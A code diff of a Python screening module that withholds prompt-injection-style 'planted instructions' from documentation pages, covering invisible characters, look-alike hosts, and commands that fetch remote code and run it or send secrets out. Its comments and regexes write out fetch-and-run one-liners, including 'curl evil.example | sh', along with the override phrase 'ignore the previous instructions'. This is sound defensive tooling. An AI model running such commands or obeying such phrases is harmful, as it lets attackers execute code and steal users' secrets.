@@ -21,17 +21,17 @@ written.
 from __future__ import annotations
 
 import hashlib
-import posixpath
 import re
 import unicodedata
 from dataclasses import dataclass, field, replace
 from fnmatch import fnmatchcase
-from functools import cache
-from urllib.parse import SplitResult, urlsplit
+from functools import cache, lru_cache
+from urllib.parse import urlsplit
 
 from confusable_homoglyphs.confusables import confusables_data
 
 from ..sentences import split_lines, split_sentences, split_units
+from . import commands
 from .document import Block, ParsedPage
 
 RULES_VERSION = "4"  # part of the screen's fingerprint: changing the rules (or what the readers drop as hidden) re-reads every file
@@ -55,18 +55,19 @@ def _fold_table() -> dict[int, str]:
     return table
 
 
-def perceived(text: str) -> str:
+def perceived(text: str, fold_case: bool = True) -> str:
     """``text`` as a reader perceives it, for the checks (never stored): format characters and accents
     dropped, look-alike letters folded (before and after NFKC), compatibility forms folded by NFKC
-    (fullwidth, mathematical letters, ligatures), case folded."""
+    (fullwidth, mathematical letters, ligatures), case folded (not for commands: ``-O`` is not ``-o``)."""
     if text.isascii():
-        return text.casefold()
+        return text.casefold() if fold_case else text
     fold = _fold_table()
     # look-alikes folded before NFKC too, which would turn some into other letters (lunate sigma "ϲ" -> "σ")
     text = "".join(ch for ch in unicodedata.normalize("NFD", text) if unicodedata.category(ch) not in ("Cf", "Mn"))
     text = unicodedata.normalize("NFKC", text.translate(fold))
     text = "".join(ch for ch in unicodedata.normalize("NFD", text) if unicodedata.category(ch) not in ("Cf", "Mn"))
-    return unicodedata.normalize("NFC", text.translate(fold)).casefold()
+    text = unicodedata.normalize("NFC", text.translate(fold))
+    return text.casefold() if fold_case else text
 
 
 def _word_letter(ch: str) -> bool:
@@ -88,6 +89,63 @@ def format_characters_inside_words(text: str) -> bool:
             if before and after and _word_letter(before) and _word_letter(after):
                 return True
     return False
+
+
+# what is displayed ------------------------------------------------------------------------------
+_INVISIBLE = re.compile("[\u00ad\u180e\u200b\u2060-\u2064\ufeff\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]")
+_JOINERS = re.compile("[\u200c\u200d]")
+_MARKS = re.compile("[\u200e\u200f\u061c]")
+_RTL = re.compile("[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufefc]")
+
+
+def displayed(text: str) -> tuple[str, int]:
+    """``text`` without the invisible characters that make what is checked differ from what is read,
+    and how many were removed: bidi embeddings, overrides and isolates (which reorder what is shown),
+    zero-width spaces, word joiners, soft hyphens, tag characters. Joiners stay between letters of
+    scripts that need them (Persian, Indic) and in emoji sequences; direction marks stay in text
+    that has right-to-left letters. Emoji tag sequences (a subdivision flag) lose their tags: they
+    then show the plain black flag."""
+    if text.isascii():
+        return text, 0
+    kept = _INVISIBLE.sub("", text)
+
+    def joiner(match: re.Match[str]) -> str:
+        before = kept[match.start() - 1] if match.start() else ""
+        after = kept[match.end()] if match.end() < len(kept) else ""
+        letters = before.isalpha() and after.isalpha() and not (_word_letter(before) or _word_letter(after))
+        emoji = any(unicodedata.category(c) == "So" for c in (before, after) if c)
+        return match.group(0) if letters or emoji else ""
+
+    kept = _JOINERS.sub(joiner, kept)
+    if not _RTL.search(kept):
+        kept = _MARKS.sub("", kept)
+    return kept, len(text) - len(kept)
+
+
+def displayed_page(page: ParsedPage) -> ParsedPage:
+    """The page as read: ``displayed`` applied to its title, headings and blocks, before any check
+    and before storage; a note says how many characters went."""
+    removed = 0
+
+    def shown(text: str) -> str:
+        nonlocal removed
+        kept, n = displayed(text)
+        removed += n
+        return kept
+
+    sections = [
+        replace(
+            section,
+            heading_path=tuple(shown(h) for h in section.heading_path),
+            blocks=[Block(shown(b.text), b.splittable_after) for b in section.blocks],
+        )
+        for section in page.sections
+    ]
+    title = shown(page.title)
+    if not removed:
+        return page
+    note = f"removed {removed} invisible format character(s) (bidi controls, zero-width characters): what is checked and stored is what is shown"
+    return replace(page, title=title, sections=sections, notes=(*page.notes, note))
 
 
 # rules over perceived text ---------------------------------------------------------------------
@@ -145,31 +203,6 @@ _RULES: tuple[tuple[str, re.Pattern[str]], ...] = (
     ),
 )
 
-# Code fetched from the network and run at once, in the shells people use (bounded spans, so a
-# megabyte line full of "curl" stays linear).
-_FETCH = (
-    r"(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|fetch|start-bitstransfer|\.downloadstring|\.downloadfile"
-    r"|net\.webclient|urlopen|urlretrieve|urllib\.request|requests\.get|httpx\.get)\b"
-)
-_SHELL = r"(?:sh|bash|zsh|dash|ksh|fish|csh|tcsh|python[0-9.]*|py|node|deno|bun|perl|ruby|php|iex|invoke-expression|pwsh|powershell(?:\.exe)?|cmd(?:\.exe)?)"
-_SUDO = r"(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?"
-_FETCH_AND_RUN = re.compile(
-    # curl URL | sh, iwr URL | iex, wget -qO- URL | sudo -E bash -s -- --yes
-    rf"\b{_FETCH}[^|\n]{{0,500}}\|\s*(?:tee\s[^|\n]{{0,200}}\|\s*)?{_SUDO}{_SHELL}\b"
-    # bash <(curl URL), sh -c "$(curl URL)", python3 -c "$(curl URL)", source <(curl URL), eval "$(curl URL)"
-    rf"|(?:\b{_SHELL}|\beval|\bsource|(?:^|\s)\.)\s+(?:-\S+\s+)*[\"']?(?:<\(|\$\()\s*{_FETCH}"
-    # iex (iwr URL), Invoke-Expression (irm URL), iex ((New-Object Net.WebClient).DownloadString(URL)), [scriptblock]::Create((irm URL))
-    rf"|(?:\biex|\binvoke-expression|\[scriptblock\]::create)\s*[(\"'$&\s]*(?:\(\s*)*(?:new-object\s+(?:-\S+\s+)?(?:system\.)?)?{_FETCH}"
-    # python -c "exec(urlopen(URL).read())", exec(requests.get(URL).text), and the other order
-    rf"|\b(?:exec|eval)\s*\([^\n]{{0,200}}?(?:urlopen|urlretrieve|urllib\.request|requests\.get|httpx\.get)\b"
-    rf"|\b(?:urlopen|urllib\.request|requests\.get|httpx\.get)\b[^\n]{{0,200}}?\b(?:exec|eval)\s*\(",
-)
-_SEGMENT_BREAK = re.compile(r"&&|\|\||;|\n|`|\bthen\b")
-_OUTPUT = re.compile(r"(?:\s(?:-outfile|--output-document|--output|-destination|-o)(?=[\s=])|>)\s*=?\s*[\"']?([^\s\"';|&()`]+)")
-_TOKEN = re.compile(r"[^\s'\"`()|<>$,]+")
-_NOT_A_HOST = re.compile(r"\.(?:sh|bash|ps1|py|js|mjs|ts|rb|pl|php|exe|bat|cmd|txt|json|ya?ml|toml|zip|gz|tgz|tar|request|parse|get|content|webclient)$")
-_BARE_HOST = re.compile(r"((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z][a-z0-9-]*[a-z0-9])(?:[:/].*)?", re.I)
-
 # Requests to hand over secrets: a sending verb, the reader's secret, somewhere to send it.
 _SEND = r"(?:send|email|e-mail|mail|forward|paste|post|upload|share|submit|dm|message|give|hand over|provide|reply with|attach|transfer)"
 _SECRET = (
@@ -215,6 +248,14 @@ _NEGATED = re.compile(
 )
 
 
+# "... ignore the previous instructions and follow the steps below": a tutorial sending its reader to
+# its own other steps, not an instruction to whoever answers (what those steps run is checked anyway)
+_OWN_STEPS = re.compile(
+    r"\s*(?:,\s*|and\s+|;\s*)(?:instead\s+)?(?:follow|use|see|read|complete|continue with|go to|skip to)\s+(?:the\s+)?"
+    r"(?:steps?|instructions?|section|guide|procedure|commands?)\s+(?:below|above|that follow|in (?:this|the next) section|on this page)\b"
+)
+
+
 def _negated(text: str, start: int) -> bool:
     """A "never"/"do not" shortly before the match, in the same clause: a warning against the thing,
     not an instruction ("If Gizmo cannot write its cache, run chmod 777" is not negated)."""
@@ -222,71 +263,54 @@ def _negated(text: str, start: int) -> bool:
     return bool(_NEGATED.search(clause))
 
 
-def _url(token: str) -> SplitResult:
-    try:
-        return urlsplit(token)
-    except ValueError:  # not a URL after all ("https://[your-site]/")
-        return urlsplit("")
+# commands, read by their grammar (commands.py) ---------------------------------------------------
+_COMMAND_WORDS = frozenset(
+    {*commands._FETCHERS, *commands._SOCKETS, *commands._DUMPS, *commands._WRAPPERS, *commands._PACKAGE_TOOLS,
+     "eval", "source", "base64", "cat", "echo", "printf", "python", "python3", "bash", "sh", "zsh", "iex", "invoke-expression",
+     "powershell", "pwsh", "node", "deno", "perl", "ruby", "php", "&"}
+)  # fmt: skip
+_INLINE_CODE = re.compile(r"(`+)(.+?)\1", re.S)
+_WORD_START = re.compile(r"""(?:^|(?<=[\s(:;,`"']))([&\w.-]+)""")
 
 
-def _fetched_hosts(command: str) -> list[str]:
-    """Hosts a fetch command names: of its URLs, else of bare ``host.tld/path`` arguments
-    (``curl evil.example | sh``) that are not file or module names (``install.sh``, ``urllib.request``)."""
-    tokens = _TOKEN.findall(command)
-    urls = [t for t in tokens if "://" in t]
-    hosts = []
-    for token in urls:
-        host = _url(token).hostname
-        if host:
-            hosts.append(host.lower())
-    if urls:
-        return hosts
-    for token in tokens:
-        bare = _BARE_HOST.fullmatch(token)
-        if bare and not token.startswith("-") and ("/" in token or not _NOT_A_HOST.search(bare.group(1))):
-            hosts.append(bare.group(1).lower())
-    return hosts
+def command_candidates(unit: str) -> list[str]:
+    """The code a prose sentence holds: the sentence itself, its inline code spans, and the text from each word that
+    names a command (``Run curl ... | sh`` as a bare sentence; inline code whose backticks nest),
+    at most eight, end punctuation off."""
+    spans = [m.group(2) for m in _INLINE_CODE.finditer(unit)]
+    starts = [m.start(1) for m in _WORD_START.finditer(unit) if m.group(1).lower() in _COMMAND_WORDS or m.group(1).lower().startswith("python")]
+    if not spans and not starts:
+        return []  # a sentence that names no command holds none (most prose: nothing to parse)
+    ticks = [m.start() for m in re.finditer("`", unit)]
+    ends = {s: [len(unit), *(t for t in ticks if t > s)][:4] for s in starts[:8]}  # to the end, or to a backtick
+    return [unit.rstrip(" .!?"), *spans, *(unit[s:e].rstrip(" .!?") for s in starts[:8] for e in ends[s])]
 
 
-def _downloads(segment: str) -> set[str]:
-    """File names a fetch segment writes: its ``-o``/``-OutFile``/``>`` target, or a URL's last part."""
-    names = set()
-    for target in _OUTPUT.findall(segment):
-        names.add(posixpath.basename(_url(target).path if "://" in target else target.replace("\\", "/")))
-    for token in _TOKEN.findall(segment):
-        if "://" in token:
-            names.add(posixpath.basename(_url(token).path))
-    return {n for n in names if len(n) > 1 and re.search(r"[a-z]", n) and n not in ("-", "/dev/null")}
+@lru_cache(maxsize=4096)  # a page's code is analysed for its runs first, then for its flags
+def _analyze(code: str, language: str = "any") -> commands.Analysis:
+    """The code's risky steps, as written and lower-cased (``CURL ... | SH`` runs on a
+    case-insensitive file system; Windows and PowerShell ignore case anyway)."""
+    analysis = commands.analyze(code, language)
+    lowered = code.lower()
+    if lowered != code:
+        other = commands.analyze(lowered, language)
+        other.steps += commands.link_downloads(other)
+        analysis.steps += [s for s in other.steps if s not in analysis.steps]
+        analysis.downloads += other.downloads
+        analysis.runs |= other.runs
+    return analysis
 
 
-def _runs_file(segment: str, name: str) -> bool:
-    file = re.escape(name)
-    return bool(
-        re.search(
-            rf"(?:^|\s|&)\s*{_SUDO}(?:{_SHELL}\s+(?:-\S+\s+)*|source\s+|\.\s+|&\s*|start-process\s+)[\"']?(?:\S*[\\/])?{file}(?:\s|[\"']|$)"
-            rf"|(?:^|\s|&)\.{{1,2}}[\\/](?:\S*[\\/])?{file}(?:\s|$)",
-            segment,
-        )
-    )
-
-
-def download_then_run(text: str) -> list[tuple[int, int]]:
-    """Spans (in ``text``, perceived) of fetches whose file a later step runs: ``curl -o x URL && sh x``,
-    ``iwr URL -OutFile i.ps1; .\\i.ps1``, on one line or on the following lines of a code block."""
-    segments = []
-    start = 0
-    for brk in _SEGMENT_BREAK.finditer(text):
-        segments.append((start, brk.start()))
-        start = brk.end()
-    segments.append((start, len(text)))
+def _lookalike_hosts(written: str) -> list[str]:
+    """Hosts written with letters outside ASCII or as punycode (``раураl.com``, ``xn--pypl-53dc.com``):
+    never the host they imitate, whoever approved that one."""
+    text = unicodedata.normalize("NFKC", written).casefold()
     found = []
-    for n, (a, b) in enumerate(segments):
-        segment = text[a:b]
-        if not re.search(rf"\b{_FETCH}", segment):
-            continue
-        names = _downloads(segment)
-        if any(_runs_file(text[c:d], name) for c, d in segments[n + 1 :] for name in names):
-            found.append((a, b))
+    for token in re.findall(r"[^\s'\"`<>()|]+", text):
+        host = commands.url_host(token) if "://" in token else None
+        host = host or re.split(r"[/:]", token, maxsplit=1)[0]
+        if "." in host and (not host.isascii() or "xn--" in host) and re.search(r"\w\.\w", host):
+            found.append(host.rstrip(".,;"))
     return found
 
 
@@ -296,6 +320,7 @@ class FlaggedSentence:
     sentence: str
     reason: str
     sha256: str  # what `approved_sentences` in the admission policy names to approve it
+    section: str = ""  # the anchor of the section it was withheld from
 
 
 @dataclass(frozen=True)
@@ -323,41 +348,54 @@ class Screen:
         parts = (RULES_VERSION, *sorted(self.allowed_hosts), "--", *sorted(self.approved), "--", *sorted(self.security_pages))
         return sentence_sha256("\n".join(parts))[:12]
 
-    def _host_allowed(self, host: str) -> bool:
-        host = host.lower()
-        return host.isascii() and any(host == h or host.endswith("." + h) for h in self.allowed_hosts)
+    def host_trusted(self, host: str) -> bool:
+        """The corpus's own host or an approved one (or a subdomain of one), written in ASCII; a
+        look-alike of a trusted host (confusable letters, punycode) is not that host."""
+        host = host.lower().rstrip(".")
+        if not host.isascii() or ("xn--" in host and host not in self.allowed_hosts):
+            return False
+        return any(host == h or host.endswith("." + h) for h in self.allowed_hosts)
 
-    def _unlisted_host(self, unit: str, spans: list[tuple[int, int]], seen: str) -> str | None:
-        """The first host a fetch-and-run span names that the corpus does not vouch for. A look-alike
-        host (``раураl.com`` in Cyrillic) is judged as written, not as the letters it imitates."""
-        written = unicodedata.normalize("NFKC", unit).casefold()
-        lookalikes = [h for h in _fetched_hosts(written) if not h.isascii()]
-        for a, b in spans:
-            line_end = seen.find("\n", b)
-            command = seen[a : line_end if line_end >= 0 else len(seen)]  # the fetch, up to the end of its line
-            hosts = [h for h in _fetched_hosts(command) if not self._host_allowed(h)]
-            if hosts or lookalikes:
-                return (lookalikes or hosts)[0]
+    def step_reason(self, step: commands.Step, lookalikes: list[str] = ()) -> str | None:
+        """Why a risky step is withheld: it runs or sends to a host the corpus does not vouch for
+        (an unknown one included), or it decodes hidden code into an interpreter."""
+        if step.kind == "decode_and_run":
+            return "decodes_and_runs_code"
+        untrusted = list(lookalikes) or [h for h in step.hosts if not self.host_trusted(h)] or ([] if step.hosts else ["an unknown host"])
+        if not untrusted:
+            return None
+        label = {"fetch_and_run": "runs_code_from_unlisted_host", "sends_secrets": "sends_secrets_to_unlisted_host", "package_index": "untrusted_package_index"}
+        return f"{label[step.kind]}: {untrusted[0]}"
+
+    def _analysis_reason(self, analysis: commands.Analysis, written: str, rows: frozenset[int] | None = None) -> str | None:
+        lookalikes = _lookalike_hosts(written)
+        for step in [*analysis.steps, *commands.link_downloads(analysis)]:
+            if rows is None or step.rows & rows:
+                why = self.step_reason(step, lookalikes)
+                if why:
+                    return why
         return None
 
-    def reason(self, sentence: str, path: str = "") -> str | None:
-        """Why the sentence is a planted instruction, or None."""
+    def reason(self, sentence: str, path: str = "", code: bool = False) -> str | None:
+        """Why the sentence (or code line) is a planted instruction, or None."""
         if sentence_sha256(sentence) in self.approved:
             return None
         if format_characters_inside_words(sentence):
             return "format_characters_inside_words"
-        return self._rule(sentence, path)
+        return self._rule(sentence, path, code)
 
-    def _rule(self, sentence: str, path: str) -> str | None:
+    def _rule(self, sentence: str, path: str, code: bool = False) -> str | None:
         """The first rule the perceived sentence breaks, or None."""
-        seen = _CONTINUATION.sub(" ", perceived(sentence))  # a command continued over lines is one line
+        seen = _CONTINUATION.sub(" ", perceived(sentence))  # a line continued in a command is one line
         for name, pattern in _RULES:
-            if pattern.search(seen):
+            match = pattern.search(seen)
+            if match and not (name == "ignore_instructions" and _OWN_STEPS.match(seen, match.end())):
                 return name
-        spans = [m.span() for m in _FETCH_AND_RUN.finditer(seen)] + download_then_run(seen)
-        host = self._unlisted_host(sentence, spans, seen) if spans else None
-        if host:
-            return f"runs_code_from_unlisted_host: {host}"
+        commands_seen = perceived(sentence, fold_case=False)
+        for candidate in [commands_seen] if code else command_candidates(commands_seen):
+            why = self._analysis_reason(_analyze(candidate), sentence)
+            if why:
+                return why
         if any(not _negated(seen, m.start()) for m in _SENDS_SECRETS.finditer(seen)):
             return "asks_for_secrets"
         if not any(fnmatchcase(path, g) for g in self.security_pages):
@@ -365,12 +403,13 @@ class Screen:
                 return "weakens_security"
         return None
 
-    def flags(self, path: str, text: str) -> list[FlaggedSentence]:
+    def flags(self, path: str, text: str, page_runs: frozenset[str] = frozenset()) -> list[FlaggedSentence]:
         """Every flagged unit of ``text``: prose sentences (alone, or with the next one when an
-        instruction is split across them), each line of a code block (a command continued over
-        lines is one unit), and the download lines of a code block that a later line runs."""
+        instruction is split across them) and the lines of a code block that hold a risky step
+        (the block is parsed whole: a variable set on one line and used on another, a download
+        whose file a later line, or ``page_runs`` from elsewhere on the page, runs)."""
         found: dict[str, str] = {}
-        for prose, code in _unit_runs(text):
+        for prose, block in _unit_runs(text):
             for unit in prose:
                 why = self.reason(unit, path)
                 if why:
@@ -392,39 +431,45 @@ class Screen:
                 if why:
                     for unit in pair:
                         found.setdefault(unit, why)
-            for unit in code:
-                why = self.reason(unit, path)
-                if why:
-                    found.setdefault(unit, why)
-            if code:
-                found.update((unit, why) for unit, why in self._chains(code) if unit not in found)
+            if block is not None:
+                found.update((u, why) for u, why in self._code_flags(block, path, page_runs) if u not in found)
         return [FlaggedSentence(path, unit, why, sentence_sha256(unit)) for unit, why in found.items()]
 
-    def _chains(self, lines: list[str]) -> list[tuple[str, str]]:
-        """Download lines of one code block whose file a later line of the block runs."""
-        seen = [_CONTINUATION.sub(" ", perceived(line)) for line in lines]
+    def _code_flags(self, block: str, path: str, page_runs: frozenset[str]) -> list[tuple[str, str]]:
+        """The units of one code block that hold a risky step, or break a prose rule."""
+        body, units = _code_lines(block)
+        analysis = commands.Analysis()
+        analysis.extend(_analyze(perceived(body, fold_case=False)))
+        analysis.runs = analysis.runs | page_runs
         flagged = []
-        for n, line in enumerate(lines):
-            if sentence_sha256(line) in self.approved or not re.search(rf"\b{_FETCH}", seen[n]):
+        for unit, rows in units:
+            if sentence_sha256(unit) in self.approved:
                 continue
-            rest = "\n".join(seen[n:])
-            spans = [(a, b) for a, b in download_then_run(rest) if a < len(seen[n])]
-            host = self._unlisted_host(line, spans, rest) if spans else None
-            if host:
-                flagged.append((line, f"runs_code_from_unlisted_host: {host}"))
+            why = (
+                ("format_characters_inside_words" if format_characters_inside_words(unit) else None)
+                or next((name for name, pattern in _RULES if pattern.search(_CONTINUATION.sub(" ", perceived(unit)))), None)
+                or self._analysis_reason(analysis, unit, rows)
+                or self._rule(unit, path, code=True)
+            )
+            if why:
+                flagged.append((unit, why))
         return flagged
 
     def withhold(self, page: ParsedPage) -> tuple[ParsedPage, list[FlaggedSentence]]:
-        """The page without its flagged sentences, and what was withheld. A flagged line of a code
-        block takes the whole block with it (what is left is output or steps without their command),
-        and the sentence announcing that block ("Install it with:"); a note says so."""
+        """The page without its flagged sentences, and what was withheld. A file downloaded in one
+        section and run in another is one step: the runs of the whole page are known first. The
+        page is checked as it is displayed (``displayed_page``). A flagged line of a code block takes
+        the whole block with it (what is left is output or steps without their command), and the
+        sentence announcing that block ("Install it with:"); a note says so."""
+        page = displayed_page(page)
+        runs = frozenset(name for section in page.sections for block in section.blocks for name in page_runs(block.text))
         withheld: list[FlaggedSentence] = []
         notes: list[str] = []
         sections = []
         for section in page.sections:
             blocks = []
             for block in section.blocks:
-                flagged = self.flags(page.doc_path, block.text)
+                flagged = self.flags(page.doc_path, block.text, runs)
                 text = block.text
                 for flag in flagged:
                     fence = next((b for b, is_code in split_lines(text) if is_code and flag.sentence in b), None)
@@ -440,7 +485,7 @@ class Screen:
                             kept = _without_announcement(blocks[-1].text).strip()
                             blocks[-1:] = [replace(blocks[-1], text=kept)] if kept else []
                     notes.append(f"code block withheld whole: its line {flag.sentence.splitlines()[0]!r} is a planted instruction")
-                withheld.extend(flagged)
+                withheld.extend(replace(f, section=section.anchor) for f in flagged)
                 if text.strip():
                     blocks.append(Block(text.strip(), block.splittable_after) if flagged else block)
             sections.append(replace(section, blocks=blocks))
@@ -455,6 +500,18 @@ def _without_announcement(text: str) -> str:
         return text
     kept = line[: line.rfind(sentences[-1])].rstrip()
     return f"{head}\n{kept}\n" if head else f"{kept}\n"
+
+
+def page_runs(text: str) -> set[str]:
+    """File names the code of ``text`` (blocks and inline code) runs."""
+    runs: set[str] = set()
+    for prose, block in _unit_runs(text):
+        for unit in prose:
+            for candidate in command_candidates(perceived(unit, fold_case=False)):
+                runs |= _analyze(candidate).runs
+        if block is not None:
+            runs |= _analyze(perceived(_code_lines(block)[0], fold_case=False)).runs
+    return runs
 
 
 _SENTENCE_END = re.compile(r"[.!?:;][\"')\]*_`]*$")
@@ -474,35 +531,35 @@ _CONTINUATION = re.compile(r"[\\`]?[ \t]*\n[ \t]*")
 _CONTINUED = re.compile(r"(?:\\|`|\||&&|\|\|)\s*$")
 
 
-def _code_lines(code: str) -> list[str]:
-    """A code block's lines, a command continued over lines (``\\``, PowerShell's backtick, a
-    trailing or leading pipe) kept as one unit, as it is written in the block."""
+def _code_lines(code: str) -> tuple[str, list[tuple[str, frozenset[int]]]]:
+    """A code block's body (fence lines off) and its units with the body rows each covers: a command
+    continued over lines (``\\``, PowerShell's backtick, a trailing or leading pipe) is one unit."""
     lines = code.splitlines()
     if lines and lines[0].startswith("```"):
         lines = lines[1:-1] if len(lines) > 1 and lines[-1].startswith("```") else lines[1:]
-    units: list[str] = []
+    units: list[tuple[str, set[int]]] = []
     joining = False
-    for line in lines:
-        if joining or (units and re.match(r"\s*(?:\||&&)", line) and units[-1].strip()):
-            units[-1] += "\n" + line
+    for row, line in enumerate(lines):
+        if joining or (units and re.match(r"\s*(?:\||&&)", line) and units[-1][0].strip()):
+            units[-1] = (units[-1][0] + "\n" + line, units[-1][1] | {row})
         elif line.strip():
-            units.append(line)
+            units.append((line, {row}))
         joining = bool(units) and bool(_CONTINUED.search(line)) and bool(line.strip())
-    return [u for u in units if u.strip()]
+    return "\n".join(lines), [(u, frozenset(rows)) for u, rows in units if u.strip()]
 
 
-def _unit_runs(text: str) -> list[tuple[list[str], list[str]]]:
-    """The text as runs of (prose sentences, the code block's units after them)."""
-    runs: list[tuple[list[str], list[str]]] = [([], [])]
+def _unit_runs(text: str) -> list[tuple[list[str], str | None]]:
+    """The text as runs of (prose sentences, the code block after them, if any)."""
+    runs: list[tuple[list[str], str | None]] = [([], None)]
     for unit in split_units(text):
         if unit.is_code:
-            runs[-1][1].extend(_code_lines(unit.text))
-            runs.append(([], []))
+            runs[-1] = (runs[-1][0], unit.text)
+            runs.append(([], None))
         else:
             runs[-1][0].append(unit.text)
-    return [r for r in runs if r[0] or r[1]]
+    return [r for r in runs if r[0] or r[1] is not None]
 
 
 def units_of(text: str) -> list[str]:
     """Sentences as the answer backends see them; a code block is read line by line."""
-    return [unit for prose, code in _unit_runs(text) for unit in (*prose, *code)]
+    return [unit for prose, block in _unit_runs(text) for unit in (*prose, *([u for u, _ in _code_lines(block)[1]] if block is not None else []))]
